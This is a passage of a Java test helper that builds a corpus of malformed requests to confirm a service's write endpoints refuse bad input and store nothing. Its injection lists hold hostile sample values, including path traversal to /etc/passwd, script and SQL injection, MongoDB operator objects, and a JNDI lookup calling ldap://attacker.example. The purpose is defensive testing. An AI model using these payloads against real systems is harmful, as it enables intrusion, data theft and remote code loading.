package org.wyp.kit.testing;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.math.BigDecimal;
import java.math.BigInteger;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.time.format.DateTimeParseException;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Base64;
import java.util.HashSet;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Set;
import java.util.SortedMap;
import java.util.TreeMap;
import java.util.TreeSet;
import java.util.UUID;
import java.util.concurrent.ExecutionException;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.function.Supplier;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import org.assertj.core.api.SoftAssertions;
import org.slf4j.Logger;
import org.slf4j.LoggerFactory;
import org.springframework.context.ApplicationContext;
import org.springframework.data.mongodb.core.MongoTemplate;
import org.wyp.kit.outbox.OutboxRelay;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/**
 * A corpus of malformed requests for a service's write endpoints, derived from one valid request
 * per endpoint: each field removed, nulled, of the wrong JSON type, too long, empty, an injection
 * string where the field has a format, a number out of range or beyond any Java type; arrays empty,
 * huge or nested thousands deep; unknown fields, {@code $}-keys and dotted keys; bodies that are
 * not JSON, truncated, not UTF-8 or of the wrong media type; malformed ids in the path and
 * malformed headers. The corpus is deterministic (no randomness) and free of duplicates.
 *
 * <p>Only mutations that make the request invalid are generated: a field's description (optional,
 * formatted, positive, ...) says which mutations of it would still be a valid request. Free text
 * stays free: {@code <script>} in a title is data to be escaped on output, not a malformed request,
 * so injection strings go into fields with a format (ids, enums, slugs, URLs, dates), paths and
 * headers. Some malformed-looking requests are valid and so are not generated: a whole number as an
 * instant (seconds since the epoch), an enum constant with spaces around it (read as the constant),
 * and a JSON body labelled {@code charset=UTF-16} whose bytes are UTF-8 (the encoding is read from
 * the bytes).
 *
 * <p>Each answer must be an honest refusal (see {@link Answer#fault()}), and nothing may be stored
 * or published for any of them (see {@link NothingChanged}); {@link #assertRefusedChangingNothing}
 * checks both, and {@link #assertValidRequestsSucceed} that the valid requests the corpus came from
 * are accepted, so the refusals were the mutations' doing.
 */
public final class BadInput {

  /** How long one request may take before the corpus fails it as unanswered. */
  public static final Duration TIMEOUT = Duration.ofSeconds(30);

  static final String PROBLEM_JSON = "application/problem+json";
  private static final String JSON = "application/json";
  private static final String NIL_UUID = "00000000-0000-0000-0000-000000000000";
  private static final String MAX_UUID = "ffffffff-ffff-ffff-ffff-ffffffffffff";
  private static final int NESTING = 5_000;
  private static final int LONG_TEXT = 20_000;
  private static final int OVER_BODY_LIMIT = 300_000;
  private static final int HUGE_ARRAY = 10_000;
  private static final Pattern UUID_TEXT =
      Pattern.compile(
          "[0-9a-fA-F]{8}-[0-9a-fA-F]{4}-[0-9a-fA-F]{4}-[0-9a-fA-F]{4}-[0-9a-fA-F]{12}");
  private static final Pattern PATH_VARIABLE = Pattern.compile("\\{([^}]+)}");
  private static final String BAD_BYTES_MARKER = "@@not-utf-8@@";

  /** Text that is never a valid value of a field with a format. */
  private static final List<Named> INJECTIONS =
      List.of(
          named("path traversal", "../../../../etc/passwd"),
          named("Windows path traversal", "..\\..\\..\\windows\\win.ini"),
          named("encoded path traversal", "..%2F..%2F..%2Fetc%2Fpasswd"),
          named("script injection", "<script>alert(1)</script>"),
          named("HTML attribute injection", "\"><img src=x onerror=alert(1)>"),
          named("javascript: URL", "javascript:alert(document.cookie)"),
          named("Mongo operator as text", "{\"$gt\": \"\"}"),
          named("Mongo $where as text", "$where: function() { return true; }"),
          named("SQL injection", "' OR '1'='1' --"),
          named("JNDI lookup", "${jndi:ldap://attacker.example/a}"),
          named("NUL character", "a\u0000b"),
          named("control characters", "\u0001\u0008\u001b[31m"));

  /** JSON objects that a naive query builder would take as MongoDB operators. */
  private static final List<Named> OPERATORS =
      List.of(
          named("Mongo operator $gt", object("$gt", "")),
          named("Mongo operator $ne", object("$ne", null)),
          named("Mongo operator $where", object("$where", "1 == 1")),
          named("Mongo operator $regex", object("$regex", ".*")));

  private static final Logger log = LoggerFactory.getLogger(BadInput.class);
  private static final JsonMapper READER = JsonMapper.builder().build();
  private static final int SENDERS = 4;
  private static final AtomicInteger SUBJECTS = new AtomicInteger();

  private BadInput() {}

  /** A JSON literal written as it is: numbers no Java type holds, and the like. */
  public record Raw(String json) {}

  /**
   * One malformed request: what is wrong with it, and exactly what is sent. Two cases are the same
   * when they send the same bytes to the same place; the caller's token is not part of that.
   *
   * @param token the bearer token to send it with, minted when the case is sent
   */
  public record Case(
      String endpoint,
      String name,
      String method,
      String path,
      Map<String, String> headers,
      byte[] body,
      Supplier<String> token) {

    /** What the request is, for a report: endpoint and mutation. */
    public String title() {
      return endpoint + " · " + name;
    }

    String identity() {
      return method
          + ' '
          + path
          + '\n'
          + new TreeMap<>(headers)
          + '\n'
          + (body == null ? "-" : Base64.getEncoder().encodeToString(body));
    }

    @Override
    public boolean equals(Object other) {
      return other instanceof Case that && identity().equals(that.identity());
    }

    @Override
    public int hashCode() {
      return identity().hashCode();
    }

    @Override
    public String toString() {
      return title();
    }
  }

  /** What the service answered to one case. */
  public record Answer(Case request, int status, String contentType, String body, long millis) {

    /**
     * Why this answer is not an honest refusal: not a 4xx, not problem details, or leaking
     * internals; null when it is one.
     */
    public String fault() {
      if (status < 400 || status > 499) {
        return "status " + status;
      }
      if (status == 401 || status == 429) {
        return "refused before validation (" + status + "): the corpus's caller is wrong";
      }
      if (contentType == null || !contentType.startsWith(PROBLEM_JSON)) {
        return "Content-Type " + contentType;
      }
      JsonNode problem;
      try {
        problem = READER.readTree(body);
      } catch (RuntimeException e) {
        return "a body that is not JSON";
      }
      if (problem.path("type").asString("").isBlank()) {
        return "no problem type";
      }
      if (problem.path("type").asString().equals("/problems/forbidden")) {
        return "refused for the caller's roles: the corpus's caller is wrong";
      }
      if (problem.path("status").asInt() != status) {
        return "problem status " + problem.path("status") + " on a " + status;
      }
      if (problem.path("title").asString("").isBlank()) {
        return "no problem title";
      }
      if (body.contains("Exception") || body.contains("at org.") || body.contains("at java.")) {
        return "internals in the body";
      }
      return null;
    }

    @Override
    public String toString() {
      String shown = body == null ? "" : body.length() > 300 ? body.substring(0, 300) + "…" : body;
      return request.title() + " → " + status + " " + contentType + " " + shown;
    }
  }

  /** The corpus for one endpoint, e.g. {@code endpoint("PUT", "/api/problems/{id}")}. */
  public static Endpoint endpoint(String method, String pathTemplate) {
    return new Endpoint(method, pathTemplate);
  }

  /**
   * A supplier of tokens with these roles and claims, each with a subject of its own, so that a
   * corpus of hundreds of writes is not stopped by the per-caller write rate limit.
   */
  public static Supplier<String> tokens(String role, Map<String, Object> claims) {
    int[] used = {0};
    String[] token = {null};
    return () -> {
      // A new subject well before the limit's burst (200 writes) is used up; signing a token per
      // request would cost more than the request.
      if (used[0]++ % 100 == 0) {
        token[0] =
            TestTokens.token(
                role.toLowerCase(Locale.ROOT) + "-bad-input-" + SUBJECTS.incrementAndGet(),
                List.of(role),
                claims);
      }
      return token[0];
    };
  }

  /** The cases of all these endpoints, in order, each request once. */
  /**
   * The endpoints given are exactly the service's write endpoints (so a new one without bad input
   * fails the build), and their corpus is large and the same every time.
   */
  public static void assertCoversEveryWriteEndpoint(
      ApplicationContext context, List<Endpoint> endpoints) {
    Set<String> writes =
        EndpointInventory.of(context, "/api/").stream()
            .filter(endpoint -> !endpoint.startsWith("GET "))
            .collect(Collectors.toCollection(TreeSet::new));
    assertThat(endpoints.stream().map(Endpoint::name).collect(Collectors.toSet()))
        .isEqualTo(writes);
    Endpoint[] named = endpoints.toArray(Endpoint[]::new);
    List<Case> corpus = corpus(named);
    List<String> titles = corpus.stream().map(Case::title).toList();
    assertThat(corpus(named).stream().map(Case::title).toList()).isEqualTo(titles);
    assertThat(corpus).hasSizeGreaterThan(200).isEqualTo(corpus(named));
  }

  public static List<Case> corpus(Endpoint... endpoints) {
    Map<String, Case> unique = new LinkedHashMap<>();
    for (Endpoint endpoint : endpoints) {
      endpoint.cases().forEach(c -> unique.putIfAbsent(c.identity(), c));
    }
    return List.copyOf(unique.values());
  }

  /**
   * Sends every case, a few at a time (they are all refused, so their order does not matter), and
   * collects the answers in the corpus's order.
   */
  public static List<Answer> send(Http http, List<Case> cases) {
    try (ExecutorService senders = Executors.newFixedThreadPool(SENDERS)) {
      List<Future<Answer>> answers = new ArrayList<>();
      for (Case c : cases) {
        answers.add(senders.submit(() -> send(http, c)));
      }
      List<Answer> collected = new ArrayList<>();
      for (Future<Answer> answer : answers) {
        collected.add(answer.get());
      }
      return collected;
    } catch (InterruptedException e) {
      Thread.currentThread().interrupt();
      throw new IllegalStateException(e);
    } catch (ExecutionException e) {
      throw new IllegalStateException(e.getCause());
    }
  }

  private static Answer send(Http http, Case c) {
    String token;
    synchronized (c.token()) {
      token = c.token().get();
    }
    long started = System.nanoTime();
    try {
      Http.Response response =
          http.as(token).sendBytes(c.method(), c.path(), c.body(), c.headers(), TIMEOUT);
      return new Answer(
          c, response.status(), response.header("Content-Type"), response.body(), elapsed(started));
    } catch (IllegalStateException e) {
      return new Answer(c, -1, null, "no answer: " + e.getCause(), elapsed(started));
    }
  }

  /**
   * Sends the corpus and asserts that every request was refused with problem details (see {@link
   * Answer#fault()}) and that nothing was stored or published for any of them (see {@link
   * NothingChanged}); both are reported together.
   */
  public static Summary assertRefusedChangingNothing(
      Http http, List<Case> corpus, MongoTemplate mongo, OutboxRelay relay, String bootstrap) {
    long started = System.nanoTime();
    List<Answer> answers;
    long sending;
    SoftAssertions softly = new SoftAssertions();
    try (NothingChanged unchanged = NothingChanged.watch(mongo, relay, bootstrap)) {
      long sent = System.nanoTime();
      answers = send(http, corpus);
      sending = elapsed(sent);
      List<Answer> faults = faults(answers);
      if (!faults.isEmpty()) {
        StringBuilder report = new StringBuilder();
        report
            .append(faults.size())
            .append(" of ")
            .append(answers.size())
            .append(" malformed requests were not refused with problem details:");
        faults.forEach(a -> report.append("\n  ").append(a.fault()).append(": ").append(a));
        softly.fail(report.toString());
      }
      softly.check(unchanged::assertNothingChanged);
    }
    Summary summary = new Summary(answers, sending, elapsed(started));
    writeAnswers(answers);
    log.info("bad input: {}", summary);
    softly.assertAll();
    return summary;
  }

  /**
   * Every case with the status and problem type it got, as {@code target/bad-input-answers.tsv}
   * (the test's working directory is its module), for a reviewer to see which refusal each got.
   */
  private static void writeAnswers(List<Answer> answers) {
    StringBuilder table = new StringBuilder("endpoint\tcase\tstatus\ttype\n");
    for (Answer a : answers) {
      String type;
      try {
        type = READER.readTree(a.body()).path("type").asString("");
      } catch (RuntimeException e) {
        type = "";
      }
      table
          .append(a.request().endpoint())
          .append('\t')
          .append(a.request().name().replaceAll("\\s", " "))
          .append('\t')
          .append(a.status())
          .append('\t')
          .append(type)
          .append('\n');
    }
    try {
      Path target = Path.of("target");
      if (Files.isDirectory(target)) {
        Files.writeString(target.resolve("bad-input-answers.tsv"), table);
      }
    } catch (IOException e) {
      log.warn("cannot write the bad-input answers: {}", e.toString());
    }
  }

  /** What a corpus run did: how many requests, per endpoint, per status, and how long it took. */
  public record Summary(List<Answer> answers, long sendingMillis, long millis) {

    public Map<String, Long> perEndpoint() {
      Map<String, Long> counts = new TreeMap<>();
      answers.forEach(a -> counts.merge(a.request().endpoint(), 1L, Long::sum));
      return counts;
    }

    @Override
    public String toString() {
      long[] times = answers.stream().mapToLong(Answer::millis).sorted().toArray();
      long median = times.length == 0 ? 0 : times[times.length / 2];
      long slowest = times.length == 0 ? 0 : times[times.length - 1];
      return ("%d requests sent in %d ms (median %d ms, slowest %d ms), %d ms with the snapshots"
              + " before and after; statuses %s; per endpoint %s")
          .formatted(
              answers.size(),
              sendingMillis,
              median,
              slowest,
              millis,
              statuses(answers),
              perEndpoint());
    }
  }

  /**
   * Sends each endpoint's valid request (the first one of each endpoint), in order, and asserts
   * that each succeeds: the corpus's refusals were then the mutations' doing, not the target's.
   */
  public static void assertValidRequestsSucceed(Http http, List<Endpoint> endpoints) {
    Set<String> sent = new HashSet<>();
    SoftAssertions softly = new SoftAssertions();
    for (Endpoint endpoint : endpoints) {
      if (sent.add(endpoint.name())) {
        Case valid = endpoint.valid();
        Answer answer = send(http, valid);
        softly
            .assertThat(answer.status())
            .as("the valid request of %s: %s", endpoint.name(), answer)
            .isBetween(200, 299);
      }
    }
    softly.assertAll();
  }

  /** The answers that are not an honest refusal (see {@link Answer#fault()}). */
  public static List<Answer> faults(List<Answer> answers) {
    return answers.stream().filter(a -> a.fault() != null).toList();
  }

  /** How many answers had each status, e.g. {@code {400=310, 404=12, 413=20}}. */
  public static Map<Integer, Long> statuses(List<Answer> answers) {
    Map<Integer, Long> counts = new TreeMap<>();
    answers.forEach(a -> counts.merge(a.status(), 1L, Long::sum));
    return counts;
  }

  private static long elapsed(long started) {
    return (System.nanoTime() - started) / 1_000_000;
  }

  /**
   * One write endpoint: its path with valid values for its variables, the headers a valid request
   * carries, a valid example body, and what the body's fields allow. Field paths name nested fields
   * with dots and array items with {@code []}: {@code datasets[].url}.
   */
  public static final class Endpoint {

    private final String method;
    private final String template;
    private final Map<String, String> pathValues = new LinkedHashMap<>();
    private final Set<String> anyIdInPath = new HashSet<>();
    private final Map<String, String> headers = new LinkedHashMap<>();
    private final List<HeaderRule> headerRules = new ArrayList<>();
    private final Set<String> optional = new HashSet<>();
    private final Set<String> formatted = new HashSet<>();
    private final Set<String> enumerations = new HashSet<>();
    private final Set<String> anyUuid = new HashSet<>();
    private final Set<String> positive = new HashSet<>();
    private final Set<String> signed = new HashSet<>();
    private final Set<String> maps = new HashSet<>();
    private final Set<String> notEmpty = new HashSet<>();
    private final Map<String, Number[]> ranges = new LinkedHashMap<>();
    private final Set<String> excluded = new HashSet<>();
    private Map<String, Object> example;
    private boolean bodyOptional;
    private Supplier<String> token = () -> null;

    private Endpoint(String method, String template) {
      this.method = method;
      this.template = template;
    }

    /** The endpoint as {@link EndpointInventory} names it. */
    public String name() {
      return method + " " + template;
    }

    /** The caller: a token allowed to call this endpoint, so the request reaches validation. */
    public Endpoint as(Supplier<String> tokens) {
      this.token = tokens;
      return this;
    }

    /**
     * A valid value of a path variable, e.g. the id of an existing object. Malformed ids are
     * derived from it: by its form, a UUID, a whole number or a name (such as an enum constant).
     */
    public Endpoint path(String variable, Object validValue) {
      pathValues.put(variable, String.valueOf(validValue));
      return this;
    }

    /** A path variable where any well-formed UUID names a valid target (a create-or-replace). */
    public Endpoint anyIdInPath(String... variables) {
      anyIdInPath.addAll(List.of(variables));
      return this;
    }

    /** A header every request of the corpus carries, such as {@code If-Match: *}. */
    public Endpoint header(String name, String value) {
      headers.put(name, value);
      return this;
    }

    /** A header the endpoint requires: one case leaves it out, one per malformed value. */
    public Endpoint requiredHeader(String name, String validValue, String... malformed) {
      headers.put(name, validValue);
      headerRules.add(new HeaderRule(name, true, List.of(malformed)));
      return this;
    }

    /** An optional header, sent only by its cases: one per malformed value. */
    public Endpoint optionalHeader(String name, String... malformed) {
      headerRules.add(new HeaderRule(name, false, List.of(malformed)));
      return this;
    }

    /** A valid body, from which the body's mutations are derived. */
    @SuppressWarnings("unchecked")
    public Endpoint body(Map<String, Object> validExample) {
      this.example = (Map<String, Object>) ordered(validExample);
      return this;
    }

    /** The body may be left out altogether (so an empty body is valid). */
    public Endpoint bodyOptional() {
      this.bodyOptional = true;
      return this;
    }

    /** Fields that may be absent or null (and, for arrays, empty). */
    public Endpoint optional(String... fields) {
      optional.addAll(List.of(fields));
      return this;
    }

    /**
     * Text fields with a format (a slug, a URL, a postcode, an email address, an organisation that
     * must be the caller's): injection strings and text of any other form are invalid there. UUIDs
     * and instants are recognised from the example.
     */
    public Endpoint formatted(String... fields) {
      formatted.addAll(List.of(fields));
      return this;
    }

    /**
     * Text fields holding an enum constant: other spellings, other names and numbers are invalid.
     */
    public Endpoint enumeration(String... fields) {
      enumerations.addAll(List.of(fields));
      return this;
    }

    /** UUID fields where an id of no known object is still valid. */
    public Endpoint anyUuid(String... fields) {
      anyUuid.addAll(List.of(fields));
      return this;
    }

    /** Number fields where zero is invalid too. */
    public Endpoint positive(String... fields) {
      positive.addAll(List.of(fields));
      return this;
    }

    /** Number fields where negatives are valid. */
    public Endpoint signed(String... fields) {
      signed.addAll(List.of(fields));
      return this;
    }

    /** A number field's valid range: one below and one above are invalid. */
    public Endpoint range(String field, Number min, Number max) {
      ranges.put(field, new Number[] {min, max});
      return this;
    }

    /** Object fields read as maps, whose keys are data (such as criterion keys). */
    public Endpoint map(String... fields) {
      maps.addAll(List.of(fields));
      return this;
    }

    /** Optional arrays or maps that must not be empty when given. */
    public Endpoint notEmpty(String... fields) {
      notEmpty.addAll(List.of(fields));
      return this;
    }

    /**
     * Leaves out cases by name (as {@link Case#name()} has them) that turned out to be valid
     * requests; say why where this is called.
     */
    public Endpoint except(String... caseNames) {
      excluded.addAll(List.of(caseNames));
      return this;
    }

    /** The valid request itself, for a control after the corpus: it must succeed. */
    public Case valid() {
      return new Case(
          name(),
          "valid request",
          method,
          expand(pathValues),
          contentHeaders(),
          example == null ? null : json(example),
          token);
    }

    /** The malformed requests for this endpoint, in a fixed order, each once. */
    public List<Case> cases() {
      for (String variable : variables()) {
        if (!pathValues.containsKey(variable)) {
          throw new IllegalStateException(name() + ": no valid value for {" + variable + "}");
        }
      }
      List<Case> cases = new ArrayList<>();
      pathCases(cases);
      headerCases(cases);
      if (example != null) {
        List<Mutation> mutations = new ArrayList<>();
        walk(List.of(), "", example, false, mutations);
        rootMutations(mutations);
        for (Mutation mutation : mutations) {
          cases.add(bodyCase(mutation.name(), json(mutation.apply(example))));
        }
        bodyLevelCases(cases);
      }
      Map<String, Case> unique = new LinkedHashMap<>();
      for (Case c : cases) {
        if (!excluded.contains(c.name())) {
          unique.putIfAbsent(c.identity(), c);
        }
      }
      return List.copyOf(unique.values());
    }

    // ---- paths and headers

    private List<String> variables() {
      List<String> names = new ArrayList<>();
      Matcher m = PATH_VARIABLE.matcher(template);
      while (m.find()) {
        names.add(m.group(1));
      }
      return names;
    }

    private String expand(Map<String, String> values) {
      Matcher m = PATH_VARIABLE.matcher(template);
      StringBuilder path = new StringBuilder();
      while (m.find()) {
        m.appendReplacement(path, Matcher.quoteReplacement(values.get(m.group(1))));
      }
      m.appendTail(path);
      return path.toString();
    }

    private void pathCases(List<Case> cases) {
      for (String variable : variables()) {
        String valid = pathValues.get(variable);
        List<Named> values = new ArrayList<>();
        if (UUID_TEXT.matcher(valid).matches()) {
          values.add(named("not a UUID", "not-a-uuid"));
          values.add(named("UUID with a character too many", valid + "0"));
          values.add(named("UUID with a non-hex digit", valid.substring(0, 35) + "g"));
          if (!anyIdInPath.contains(variable)) {
            values.add(named("nil UUID of no object", NIL_UUID));
            values.add(named("max UUID of no object", MAX_UUID));
          }
        } else if (valid.matches("-?\\d+")) {
          values.add(named("not a number", "abc"));
          values.add(named("negative", "-1"));
          values.add(named("zero", "0"));
          values.add(named("beyond int", "2147483648"));
          values.add(named("beyond long", "9223372036854775808"));
          values.add(named("fraction", "1.5"));
          values.add(named("exponent", "1e3"));
        } else {
          values.add(named("unknown name", "NOT_A_VALUE"));
          values.add(named("lower case", valid.toLowerCase(Locale.ROOT)));
          values.add(named("number", "0"));
        }
        values.add(named("encoded path traversal", "..%2F..%2F..%2Fetc%2Fpasswd"));
        values.add(named("encoded dot-dot", "%2e%2e"));
        values.add(named("encoded NUL", "%00"));
        values.add(named("Mongo operator", "%7B%22%24gt%22%3A%22%22%7D"));
        values.add(named("dollar key", "%24where"));
        values.add(named("script injection", "%3Cscript%3Ealert(1)%3C%2Fscript%3E"));
        values.add(named("SQL injection", "1%27%20OR%20%271%27%3D%271"));
        values.add(named("5000 characters", "a".repeat(5_000)));
        for (Named value : values) {
          Map<String, String> changed = new LinkedHashMap<>(pathValues);
          changed.put(variable, (String) value.value());
          cases.add(
              new Case(
                  name(),
                  "(path) " + variable + ": " + value.name(),
                  method,
                  expand(changed),
                  contentHeaders(),
                  example == null ? null : json(example),
                  token));
        }
      }
    }

    private void headerCases(List<Case> cases) {
      for (HeaderRule rule : headerRules) {
        if (rule.required()) {
          Map<String, String> without = contentHeaders();
          without.remove(rule.name());
          cases.add(caseWith("(header) " + rule.name() + ": missing", without));
        }
        for (String value : rule.malformed()) {
          Map<String, String> with = contentHeaders();
          with.put(rule.name(), value);
          cases.add(caseWith("(header) " + rule.name() + ": " + describe(value), with));
        }
      }
    }

    private Case caseWith(String name, Map<String, String> allHeaders) {
      return new Case(
          name(),
          name,
          method,
          expand(pathValues),
          allHeaders,
          example == null ? null : json(example),
          token);
    }

    private Map<String, String> contentHeaders() {
      Map<String, String> all = new LinkedHashMap<>(headers);
      if (example != null) {
        all.put("Content-Type", JSON);
      }
      return all;
    }

    private Case bodyCase(String name, byte[] body) {
      return bodyCase(name, body, JSON);
    }

    private Case bodyCase(String name, byte[] body, String contentType) {
      Map<String, String> all = new LinkedHashMap<>(headers);
      if (contentType != null) {
        all.put("Content-Type", contentType);
      }
      return new Case(name(), name, method, expand(pathValues), all, body, token);
    }

    // ---- the body's fields

    private void walk(
        List<Object> at, String field, Object value, boolean item, List<Mutation> out) {
      Kind kind = kindOf(field, value);
      if (!at.isEmpty()) {
        boolean required = item || !optional.contains(field);
        String label = label(at);
        if (!item && required) {
          out.add(new Mutation(label + ": absent", at, Mutation.REMOVE));
        }
        if (required) {
          out.add(new Mutation(label + ": null", at, null));
        }
        for (Named wrong : wrongTypes(kind, value)) {
          out.add(new Mutation(label + ": " + wrong.name(), at, wrong.value()));
        }
        for (Named bad : invalidValues(field, kind, value, required)) {
          out.add(new Mutation(label + ": " + bad.name(), at, bad.value()));
        }
      }
      switch (kind) {
        case OBJECT -> {
          @SuppressWarnings("unchecked")
          Map<String, Object> object = (Map<String, Object>) value;
          if (!at.isEmpty()) {
            for (Named extra : unknownFields(object)) {
              out.add(
                  new Mutation(
                      label(at) + ": " + extra.name(), append(at, extra.value()), "unexpected"));
            }
          }
          object.forEach(
              (name, child) -> {
                if (child != null) {
                  walk(
                      append(at, name),
                      field.isEmpty() ? name : field + "." + name,
                      child,
                      false,
                      out);
                }
              });
        }
        case MAP -> {
          @SuppressWarnings("unchecked")
          Map<String, Object> entries = (Map<String, Object>) value;
          if (!entries.isEmpty()) {
            Map.Entry<String, Object> first = entries.entrySet().iterator().next();
            walk(append(at, first.getKey()), field + "{}", first.getValue(), true, out);
          }
        }
        case ARRAY -> {
          List<?> items = (List<?>) value;
          if (!items.isEmpty() && items.getFirst() != null) {
            walk(append(at, 0), field + "[]", items.getFirst(), true, out);
          }
        }
        default -> {}
      }
    }

    private Kind kindOf(String field, Object value) {
      if (maps.contains(field) && value instanceof Map) {
        return Kind.MAP;
      }
      if (value instanceof Map) {
        return Kind.OBJECT;
      }
      if (value instanceof List) {
        return Kind.ARRAY;
      }
      if (value instanceof Boolean) {
        return Kind.BOOLEAN;
      }
      if (value instanceof Integer
          || value instanceof Long
          || value instanceof Short
          || value instanceof BigInteger) {
        return Kind.INTEGER;
      }
      if (value instanceof Number) {
        return Kind.DECIMAL;
      }
      if (value instanceof UUID) {
        return Kind.UUID;
      }
      if (value instanceof Instant) {
        return Kind.INSTANT;
      }
      String text = String.valueOf(value);
      if (UUID_TEXT.matcher(text).matches()) {
        return Kind.UUID;
      }
      if (isInstant(text)) {
        return Kind.INSTANT;
      }
      if (enumerations.contains(field)) {
        return Kind.ENUM;
      }
      return formatted.contains(field) ? Kind.FORMATTED : Kind.TEXT;
    }

    /** Values of another JSON type than the field's. */
    private List<Named> wrongTypes(Kind kind, Object example) {
      List<Named> wrong = new ArrayList<>();
      switch (kind) {
        case TEXT, FORMATTED, ENUM, UUID, INSTANT -> {
          if (kind != Kind.INSTANT) {
            // A whole number is a valid instant: seconds since the epoch.
            wrong.add(named("number instead of text", 42));
          }
          wrong.add(named("boolean instead of text", true));
          wrong.add(named("array instead of text", List.of(String.valueOf(example))));
          wrong.add(named("empty array instead of text", List.of()));
          wrong.add(named("object instead of text", object("value", String.valueOf(example))));
          wrong.addAll(OPERATORS);
        }
        case INTEGER -> {
          wrong.add(named("text instead of number", String.valueOf(example)));
          wrong.add(named("boolean instead of number", true));
          wrong.add(named("array instead of number", List.of(example)));
          wrong.add(named("object instead of number", object("value", example)));
          wrong.addAll(OPERATORS);
        }
        case DECIMAL -> {
          wrong.add(named("text instead of number", String.valueOf(example)));
          wrong.add(named("boolean instead of number", true));
          wrong.add(named("array instead of number", List.of(example)));
          wrong.add(named("object instead of number", object("value", example)));
          wrong.addAll(OPERATORS);
        }
        case BOOLEAN -> {
          wrong.add(named("text instead of boolean", String.valueOf(example)));
          wrong.add(named("number instead of boolean", 1));
          wrong.add(named("array instead of boolean", List.of(example)));
          wrong.add(named("object instead of boolean", object("value", example)));
          wrong.addAll(OPERATORS);
        }
        case ARRAY -> {
          List<?> items = (List<?>) example;
          Object first = items.isEmpty() ? "x" : items.getFirst();
          wrong.add(named("single value instead of array", first));
          wrong.add(named("text instead of array", "x"));
          wrong.add(named("number instead of array", 1));
          wrong.add(named("boolean instead of array", true));
          wrong.add(named("object instead of array", object("0", first)));
          wrong.add(named("Mongo operator $in", object("$in", items)));
        }
        case OBJECT, MAP -> {
          wrong.add(named("text instead of object", "x"));
          wrong.add(named("number instead of object", 1));
          wrong.add(named("boolean instead of object", true));
          wrong.add(named("array instead of object", List.of(example)));
        }
      }
      return wrong;
    }

    /** Values of the field's type that the field does not allow. */
    private List<Named> invalidValues(String field, Kind kind, Object example, boolean required) {
      List<Named> bad = new ArrayList<>();
      switch (kind) {
        case TEXT -> {
          if (required) {
            bad.addAll(blanks());
          }
          bad.add(named(LONG_TEXT + " characters", "a".repeat(LONG_TEXT)));
          bad.add(named("over the body size limit", "a".repeat(OVER_BODY_LIMIT)));
        }
        case FORMATTED, ENUM, UUID, INSTANT -> {
          if (required) {
            bad.addAll(blanks());
          }
          bad.add(named(LONG_TEXT + " characters", "a".repeat(LONG_TEXT)));
          bad.add(named("over the body size limit", "a".repeat(OVER_BODY_LIMIT)));
          bad.addAll(INJECTIONS);
          String text = String.valueOf(example);
          switch (kind) {
            case ENUM -> {
              bad.add(named("unknown constant", "NOT_A_VALUE"));
              bad.add(named("lower case", text.toLowerCase(Locale.ROOT)));
              bad.add(named("constant's index", 0));
              bad.add(named("constant's index as text", "0"));
            }
            case UUID -> {
              bad.add(named("not a UUID", "not-a-uuid"));
              bad.add(named("UUID without dashes", text.replace("-", "")));
              bad.add(named("UUID with a character too many", text + "0"));
              bad.add(named("UUID with a non-hex digit", text.substring(0, 35) + "g"));
              if (!anyUuid.contains(field)) {
                bad.add(named("nil UUID of no object", NIL_UUID));
                bad.add(named("max UUID of no object", MAX_UUID));
              }
            }
            case INSTANT -> {
              bad.add(named("not a date", "not-a-date"));
              bad.add(named("impossible date", "2026-02-30T09:00:00Z"));
              bad.add(named("impossible time", "2026-03-01T25:61:00Z"));
              bad.add(named("date without time", "2026-03-01"));
              bad.add(named("time without zone", "2026-03-01T09:00:00"));
              bad.add(named("seconds beyond long", new Raw("9223372036854775808")));
              bad.add(named("seconds beyond any instant", new Raw("9223372036854775807")));
              bad.add(named("1e309 seconds", new Raw("1e309")));
              bad.add(named("1e1000000000 seconds", new Raw("1e1000000000")));
              bad.add(named("-1e1000000000 seconds", new Raw("-1e1000000000")));
            }
            default -> {}
          }
        }
        case INTEGER -> {
          bad.addAll(outOfRange(field, true));
          bad.add(named("fraction", new Raw("1.5")));
          bad.add(named("whole number written as a fraction", new Raw("1.0")));
          bad.add(named("exponent", new Raw("1e2")));
          bad.add(named("beyond long", new Raw("9223372036854775808")));
          bad.add(named("below long", new Raw("-9223372036854775809")));
          bad.add(named("1e309", new Raw("1e309")));
          bad.add(named("1e1000000000", new Raw("1e1000000000")));
          bad.add(named("5000 digits", new Raw("1".repeat(5_000))));
          bad.add(named("NaN as text", "NaN"));
          bad.add(named("Infinity as text", "Infinity"));
        }
        case DECIMAL -> {
          bad.addAll(outOfRange(field, false));
          bad.add(named("1e309", new Raw("1e309")));
          bad.add(named("-1e309", new Raw("-1e309")));
          bad.add(named("1e1000000000", new Raw("1e1000000000")));
          bad.add(named("1e-1000000000", new Raw("1e-1000000000")));
          bad.add(named("5000 digits", new Raw("0." + "1".repeat(5_000))));
          bad.add(named("NaN as text", "NaN"));
          bad.add(named("Infinity as text", "Infinity"));
        }
        case BOOLEAN -> bad.add(named("yes as text", "yes"));
        case ARRAY -> {
          List<?> items = (List<?>) example;
          if (required || notEmpty.contains(field)) {
            bad.add(named("empty", List.of()));
          }
          bad.add(named("null item", Arrays.asList((Object) null)));
          if (!items.isEmpty()) {
            List<Object> huge = new ArrayList<>(HUGE_ARRAY);
            for (int i = 0; i < HUGE_ARRAY; i++) {
              huge.add(items.get(i % items.size()));
            }
            bad.add(named(HUGE_ARRAY + " items", huge));
          }
          bad.add(named(NESTING + " levels of nested arrays", nestedArrays(NESTING)));
        }
        case MAP -> {
          @SuppressWarnings("unchecked")
          Map<String, Object> entries = (Map<String, Object>) example;
          Object value = entries.isEmpty() ? 1 : entries.values().iterator().next();
          if (required || notEmpty.contains(field)) {
            bad.add(named("empty", Map.of()));
          }
          for (Named key : badKeys()) {
            Map<String, Object> changed = new LinkedHashMap<>(entries);
            changed.put((String) key.value(), value);
            bad.add(named("key " + key.name(), changed));
          }
          if (entries.size() > 1) {
            Map<String, Object> fewer = new LinkedHashMap<>(entries);
